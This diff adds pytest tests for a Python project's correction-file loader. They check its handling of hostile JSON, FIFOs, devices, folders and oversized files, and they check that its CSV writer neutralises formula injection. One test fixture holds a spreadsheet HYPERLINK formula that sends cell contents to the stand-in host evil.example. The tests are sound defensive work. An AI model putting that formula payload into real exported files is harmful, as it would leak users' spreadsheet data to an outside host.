@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import json
 import warnings
 
@@ -73,6 +74,37 @@ def test_load_reports_bad_json_with_its_position(tmp_path):
     p.write_text("{oops", encoding="utf-8")
     with pytest.raises(InputError, match="not valid JSON"):
         corr.load(p)
+
+
+@pytest.mark.parametrize("text, message", [
+    pytest.param('{"corrections": ' + "[" * 100_000 + "]" * 100_000 + "}", "nested too deeply", id="deep"),
+    pytest.param('{"version": 1' + "0" * 100_000 + ', "corrections": []}', "not valid JSON", id="long-integer"),
+])
+def test_load_reports_hostile_json_as_one_error(tmp_path, text, message):
+    p = tmp_path / "c.json"
+    p.write_text(text, encoding="utf-8")
+    with pytest.raises(InputError, match=message):
+        corr.load(p)
+
+
+def test_load_refuses_fifos_devices_folders_and_huge_files_without_reading_them(tmp_path, monkeypatch):
+    import os
+
+    from kgraph.core import userfile
+
+    fifo = tmp_path / "c.json"
+    os.mkfifo(fifo)  # opening it would block forever
+    with pytest.raises(InputError, match="FIFO"):
+        corr.load(fifo)
+    with pytest.raises(InputError, match="character device"):
+        corr.load("/dev/zero")  # reading it would never end
+    with pytest.raises(InputError, match="folder"):
+        corr.load(tmp_path)
+    big = tmp_path / "big.json"
+    big.write_text('{"corrections": []}' + " " * 2048, encoding="utf-8")
+    monkeypatch.setattr(userfile, "MAX_BYTES", 1024)
+    with pytest.raises(InputError, match="larger than"):
+        corr.load(big)
 
 
 def test_merge_keeps_one_iri_and_records_the_other_as_same_as():
@@ -388,3 +420,14 @@ def test_a_csv_separated_by_semicolons_or_tabs_reads_the_same(tmp_path, text):
     p.write_text(text, encoding="utf-8")
     (item,) = corr.load(p).items
     assert item.entities == ("Borvik", "Borvik Mills") and item.note == "same; firm"
+
+
+def test_csv_written_by_kgraph_runs_no_formula_and_reads_back_the_same():
+    items = [{"action": "rename", "entity": '=HYPERLINK("http://evil.example/?"&A1,"open")', "label": "'=1+1"},
+             {"action": "merge", "entities": ["@Tova Brenn", "-Ilse", "Marr"]},
+             {"action": "block", "entity": "+Varnholm"}, {"action": "block", "entity": "Plain Name"}]
+    text = corr.to_csv(items)
+    for row in text.splitlines()[1:]:
+        for cell in next(csv.reader([row])):
+            assert cell[:1] not in ("=", "+", "-", "@"), cell
+    assert [c.as_item() for c in corr.parse_csv(text).items] == items
